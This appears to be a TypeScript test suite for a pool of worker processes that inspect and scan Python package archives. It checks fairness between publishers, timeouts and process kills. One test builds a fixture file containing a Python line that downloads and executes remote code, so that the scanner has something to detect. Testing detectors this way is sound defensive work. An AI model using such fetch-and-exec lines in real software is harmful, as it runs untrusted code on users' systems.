import assert from 'node:assert/strict';
import { hash } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { type TestContext, suite, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { DEFAULT_LIMITS } from '@patchbay/inspect';
import { TooHeavyError } from '../../src/packages/package-reader.ts';
import { ReaderPool } from '../../src/packages/reader-pool.ts';
import { zip } from '../support/build.ts';
import { killReaders } from '../support/kill-reader.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';
import { until } from '../support/until.ts';

const open = async (
  t: TestContext,
  entry: string,
  options: ConstructorParameters<typeof ReaderPool>[0] = {},
) => {
  const readers = new ReaderPool({
    ...options,
    entry: fileURLToPath(new URL(`./entries/${entry}`, import.meta.url)),
  });
  t.after(() => readers.close());
  const path = join(await temporaryFolder(t), 'package.zip');
  const bytes = await zip({ '__init__.py': '' });
  await writeFile(path, bytes);
  const inspect = (publisherId: string, nodeId = 'node', network = publisherId) =>
    readers.inspect({
      path,
      network,
      publisherId,
      limits: DEFAULT_LIMITS,
      published: { nodeId, version: '1.0.0' },
      looseVersions: false,
    });
  return { readers, path, bytes, inspect };
};

suite('readers', () => {
  test('more packages than processes are all read, each with its own answer', async (t) => {
    const readers = new ReaderPool();
    t.after(() => readers.close());
    const folder = await temporaryFolder(t);
    const names = await Promise.all(
      Array.from({ length: readers.processesMax * 4 }, async (_, index) => {
        const path = join(folder, `${index}.zip`);
        const source = `class Node:\n    pass\n\n\nNODE_CLASS_MAPPINGS = {"Node ${index}": Node}\n`;
        const bytes = await zip({ '__init__.py': source, 'README.md': `*Node ${index}*` });
        await writeFile(path, bytes);
        const extraction = await readers.extract(path, hash('sha256', bytes));
        const names = extraction?.appNodes.map(({ app_node_name }) => app_node_name);
        return [...(names ?? []), ...(extraction?.readme?.parts ?? []).map(({ tag, text }) => tag ?? text)];
      }),
    );
    assert.deepEqual(
      names,
      names.map((_, index) => [`Node ${index}`, 'p', 'em', `Node ${index}`]),
    );
  });

  test('a sound package is inspected, checked and extracted by one process', async (t) => {
    const { readers, path, bytes, inspect } = await open(t, 'counts-tasks.ts');
    const sha256 = hash('sha256', bytes);
    await inspect('ada');
    assert.equal((await readers.check(path, sha256))?.findings[0]?.line, 2);
    assert.equal((await readers.extract(path, sha256))?.problems[0]?.line, 3);
    assert.equal((await readers.extract(path, sha256))?.problems[0]?.line, 1, 'the process is ended');
  });

  test('a package whose publisher waits is inspected while others are read', async (t) => {
    const { readers, path, bytes, inspect } = await open(t, 'never-reads.ts');
    const reading = Array.from({ length: readers.processesMax * 2 }, () =>
      readers.extract(path, hash('sha256', bytes)).catch(() => 'never read'),
    );
    assert.equal(await inspect('ada'), undefined);
    readers.close();
    await Promise.all(reading);
  });

  test('the heavy packages of one publisher leave room for another', async (t) => {
    const { readers, inspect } = await open(t, 'never-reads.ts');
    const heavy = Array.from({ length: readers.processesMax * 4 }, () =>
      inspect('mallory', 'never').catch(() => 'never inspected'),
    );
    assert.equal(await inspect('ada'), undefined);
    readers.close();
    await Promise.all(heavy);
  });

  test('the publishers of one network take turns with those of another as one', async (t) => {
    const { readers, inspect } = await open(t, 'counts-tasks.ts');
    const ended: string[] = [];
    const end = (publisherId: string, network: string) =>
      inspect(publisherId, 'node', network).then(() => ended.push(publisherId));
    const crowd = Array.from({ length: readers.processesMax * 6 }, (_, index) => end(`m${index}`, 'mallory'));
    await Promise.all([...crowd, end('ada', 'ada')]);
    assert.ok(ended.indexOf('ada') < ended.length / 2, ended.join());
  });

  test('a package of large files is read to its end', async (t) => {
    const readers = new ReaderPool();
    t.after(() => readers.close());
    const path = join(await temporaryFolder(t), 'package.zip');
    const large = Array.from({ length: 40_000 }, (_, index) => `LARGE_${index} = ${index ** 3}\n`).join('');
    const hostile = `${large}import requests\nexec(requests.get("https://example.org").text)\n`;
    const bytes = await zip({ 'large.py': large, 'hostile.py': hostile, 'data.bin': large.repeat(4) });
    await writeFile(path, bytes);
    const verdict = await readers.check(path, hash('sha256', bytes));
    assert.equal(verdict?.outcome, 'found');
    assert.deepEqual(
      verdict.findings.filter(({ severity }) => severity === 'error').map(({ file, line }) => [file, line]),
      [['hostile.py', 40_002]],
    );
  });

  test(
    'a package is not to blame for the first process that is killed while it is read',
    { skip: process.platform !== 'linux' },
    async (t) => {
      const { inspect } = await open(t, '../../../src/packages/serve-readings.ts');
      const inspected = inspect('publisher');
      await until(() => killReaders(process.pid));
      assert.equal(await inspected, undefined);
    },
  );

  test('a package that ends each process that reads it is too heavy', async (t) => {
    const { readers, inspect } = await open(t, 'killed.ts');
    await assert.rejects(inspect('publisher'), TooHeavyError);
    assert.equal(readers.load.killed, 2);
  });

  test('a package is not to blame for one process that is killed after another took too long', async (t) => {
    const low = { processorMs: 60_000, waitMs: 540_000 };
    const allowances = { equal: { processorMs: 60_000, waitMs: 500 }, low, spare: low };
    const { readers, inspect } = await open(t, 'slow-then-killed.ts', { allowances });
    await assert.rejects(inspect('publisher'), TooHeavyError);
    // The slow one, the one that was killed, and one more.
    assert.equal(readers.load.killed, 3);
  });

  test('a package for which the first allowance is too little is read all the same', async (t) => {
    // No process has begun after a millisecond.
    const tooLittle = { processorMs: 1, waitMs: 1 };
    const readers = new ReaderPool({
      allowances: { equal: tooLittle, low: { processorMs: 60_000, waitMs: 540_000 }, spare: tooLittle },
    });
    t.after(() => readers.close());
    const path = join(await temporaryFolder(t), 'package.zip');
    const bytes = await zip({ '__init__.py': '' });
    await writeFile(path, bytes);
    assert.equal((await readers.check(path, hash('sha256', bytes)))?.outcome, 'passed');
    const inspection = {
      path,
      limits: DEFAULT_LIMITS,
      looseVersions: false,
      publisherId: 'ada',
      network: '',
    };
    const published = { nodeId: 'node', version: '1.0.0' };
    assert.equal(await readers.inspect({ ...inspection, published }), undefined);
  });

  test('a task that fails fails alone, with the code of its error', async (t) => {
    const readers = new ReaderPool();
    t.after(() => readers.close());
    const path = join(await temporaryFolder(t), 'package.zip');
    const bytes = await zip({ '__init__.py': '' });
    await assert.rejects(readers.check(path, hash('sha256', bytes)), {
      code: 'ENOENT',
      message: /no such file/,
    });
    await writeFile(path, bytes);
    assert.equal((await readers.check(path, hash('sha256', bytes)))?.outcome, 'passed');
    assert.equal(await readers.check(path, hash('sha256', 'another package')), undefined);
    const published = { nodeId: 'node', version: '1.0.0' };
    assert.equal(
      await readers.inspect({
        path,
        limits: DEFAULT_LIMITS,
        published,
        looseVersions: false,
        publisherId: 'ada',
        network: '',
      }),
      undefined,
    );
  });
});
